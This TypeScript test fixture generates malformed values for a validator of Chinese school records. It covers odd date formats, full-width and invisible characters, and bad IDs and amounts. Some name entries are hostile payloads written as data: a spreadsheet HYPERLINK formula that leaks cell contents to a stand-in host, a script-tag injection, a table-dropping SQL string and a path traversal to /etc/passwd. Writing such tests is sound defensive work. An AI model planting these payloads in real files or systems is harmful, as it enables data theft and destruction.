import type { ColumnRole, RowKind } from './damaged-file.ts';

type Value = string | number | null;

/** One value of one row changed. */
const one = (name: string, role: ColumnRole, change: (text: string) => Value): RowKind => [
  name,
  [role],
  ({ rows }, at, row) => {
    rows[row]![at[role]] = change(String(rows[row]![at[role]]));
  },
];
/** The values of a column in all rows changed. */
const all = (name: string, role: ColumnRole, change: (text: string) => Value): RowKind => [
  name,
  [role],
  ({ rows }, at) => {
    for (const row of rows) row[at[role]] = change(String(row[at[role]]));
  },
];

/** A date in the form 20120514. */
const parts = (text: string) => ({ y: Number(text.slice(0, 4)), m: Number(text.slice(4, 6)), d: Number(text.slice(6, 8)) });
const date = (name: string, form: (date: { y: number; m: number; d: number }) => Value) =>
  one(`date-${name}`, 'date', (text) => form(parts(text)));
const serial = ({ y, m, d }: { y: number; m: number; d: number }) =>
  Math.round((Date.UTC(y, m - 1, d) - Date.UTC(1899, 11, 30)) / 86_400_000);
const fullWidth = (text: string) => text.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const zodiac = (y: number) => '甲乙丙丁戊己庚辛壬癸'[(y - 4) % 10]! + '子丑寅卯辰巳午未申酉戌亥'[(y - 4) % 12]!;
const two = (number: number) => String(number).padStart(2, '0');

/** Values as offices write them, and as attackers do. */
export const oddValues: readonly RowKind[] = [
  date('with-slashes', ({ y, m, d }) => `${y}/${m}/${d}`),
  date('with-dots', ({ y, m, d }) => `${y}.${m}.${d}`),
  date('with-dashes', ({ y, m, d }) => `${y}-${two(m)}-${two(d)}`),
  date('in-chinese', ({ y, m, d }) => `${y}年${m}月${d}日`),
  date('in-chinese-numerals', ({ m, d }) => `二〇一〇年${m}月${d}日`),
  date('of-the-republic', ({ y, m, d }) => `民国${y - 1911}年${m}月${d}日`),
  date('lunar', ({ y, m }) => `农历${zodiac(y)}年${m}月初一`),
  date('serial-of-1900', (day) => serial(day)),
  date('serial-of-1904', (day) => serial(day) - 1462),
  date('serial-as-text', (day) => String(serial(day))),
  date('as-number', ({ y, m, d }) => y * 10_000 + m * 100 + d),
  date('two-digit-year', ({ y, m, d }) => `${two(y % 100)}/${m}/${d}`),
  date('day-first', ({ y, m, d }) => `${two(d)}/${two(m)}/${y}`),
  date('month-first', ({ y, m, d }) => `${m}/${d}/${y}`),
  date('with-time', ({ y, m, d }) => `${y}-${two(m)}-${two(d)} 08:30:00`),
  date('in-english', ({ y, d }) => `May ${d}, ${y}`),
  date('month-only', ({ y, m }) => `${y}${two(m)}`),
  date('impossible', ({ y }) => `${y}0230`),
  date('month-13', ({ y }) => `${y}1301`),
  date('zero', () => 0),
  date('negative', () => -20_120_514),
  date('year-off-by-one', ({ y, m, d }) => `${y + 1}${two(m)}${two(d)}`),
  date('year-off-by-hundred', ({ y, m, d }) => `${y + 100}${two(m)}${two(d)}`),
  date('year-9999', () => '99991231'),
  date('full-width', ({ y, m, d }) => fullWidth(`${y}${two(m)}${two(d)}`)),
  date('dash-for-unknown', () => '——'),
  date('empty', () => null),
  one('id-full-width', 'id', fullWidth),
  one('id-leading-apostrophe', 'id', (text) => `'${text}`),
  one('id-as-number', 'id', (text) => Number(text.replace(/\D/g, ''))),
  one('id-in-scientific-notation', 'id', (text) => Number(text.replace(/\D/g, '')).toExponential(5).toUpperCase()),
  one('id-blanks-around', 'id', (text) => ` \u3000${text}\t `),
  one('id-zero-width', 'id', (text) => `\u200B${text}\uFEFF`),
  one('id-no-break-space', 'id', (text) => `${text}\u00A0`),
  one('id-lower-case', 'id', (text) => text.toLowerCase()),
  one('id-with-dashes', 'id', (text) => `${text.slice(0, 6)}-${text.slice(6)}`),
  one('id-one-digit-short', 'id', (text) => text.slice(0, -1)),
  one('id-one-digit-long', 'id', (text) => `${text}0`),
  one('id-digits-swapped', 'id', (text) => text.slice(0, 3) + text[4] + text[3] + text.slice(5)),
  one('id-letter-for-zero', 'id', (text) => text.replace('0', 'O')),
  one('id-empty', 'id', () => null),
  one('id-with-note', 'id', (text) => `${text}（待核）`),
  all('gender-one-two', 'gender', (text) => (text === '男' ? 1 : 2)),
  all('gender-letters', 'gender', (text) => (text === '男' ? 'M' : 'F')),
  one('gender-unknown', 'gender', () => '未知'),
  one('gender-three', 'gender', () => '3'),
  one('gender-blanks-inside', 'gender', (text) => ` ${text}\u3000`),
  one('gender-with-suffix', 'gender', (text) => `${text}性`),
  one('name-emoji', 'name', (text) => `${text}\u{1F600}`),
  one('name-of-a-rare-character', 'name', () => '\u{20BB7}田'),
  one('name-right-to-left-override', 'name', (text) => `\u202E${text}\u202C`),
  one('name-very-long', 'name', (text) => text.repeat(2000)),
  one('name-with-line-break', 'name', (text) => `${text}\n甲`),
  one('name-with-blanks-inside', 'name', (text) => Array.from(text).join('　')),
  one('name-formula', 'name', () => '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"点击")'),
  one('name-markup', 'name', () => '<script>alert(1)</script>'),
  one('name-sql', 'name', () => `'; DROP TABLE student; --`),
  one('name-path', 'name', () => '../../etc/passwd'),
  one('name-middle-dot', 'name', () => '阿依古丽•买买提'),
  one('name-private-use', 'name', () => '\uE000某'),
  one('name-combining-marks', 'name', (text) => text + '\u0301'.repeat(500)),
  one('name-control-characters', 'name', (text) => `${text}\u0007\u001B[31m`),
  one('name-number', 'name', () => 12_345),
  one('name-empty', 'name', () => null),
  one('whole-negative', 'whole', () => -3),
  one('whole-fraction', 'whole', () => 3.5),
  one('whole-with-thousands', 'whole', () => '1,234'),
  one('whole-percent', 'whole', () => '50%'),
  one('whole-with-unit', 'whole', (text) => `${text}班`),
  one('whole-in-chinese', 'whole', () => '三'),
  one('whole-full-width', 'whole', fullWidth),
  one('whole-huge', 'whole', () => 1e15),
  one('whole-zero', 'whole', () => 0),
  one('whole-text', 'whole', () => 'abc'),
  one('whole-as-text-with-zeros', 'whole', (text) => text.padStart(4, '0')),
  one('whole-with-formula', 'whole', () => '=1+1'),
  all('decimal-in-yuan', 'decimal', (text) => Math.round(Number(text) * 10_000)),
  one('decimal-in-yuan-once', 'decimal', (text) => Math.round(Number(text) * 10_000)),
  one('decimal-with-unit', 'decimal', (text) => `${text}万元`),
  one('decimal-with-other-unit', 'decimal', (text) => `${Number(text) * 10_000}元`),
  one('decimal-with-thousands', 'decimal', () => '1,234.50'),
  one('decimal-with-comma', 'decimal', () => '350,12'),
  one('decimal-negative', 'decimal', () => -1),
  one('decimal-currency-sign', 'decimal', (text) => `￥${text}`),
  one('decimal-two-points', 'decimal', () => '1.2.3'),
  one('decimal-range', 'decimal', () => '10-20'),
  one('school-with-prefix', 'school', (text) => `县${text}`),
  one('school-as-number', 'school', Number),
  one('school-unknown', 'school', (text) => text.replace(/\d{4}$/, '9876')),
  one('school-empty', 'school', () => null),
]; // prettier-ignore
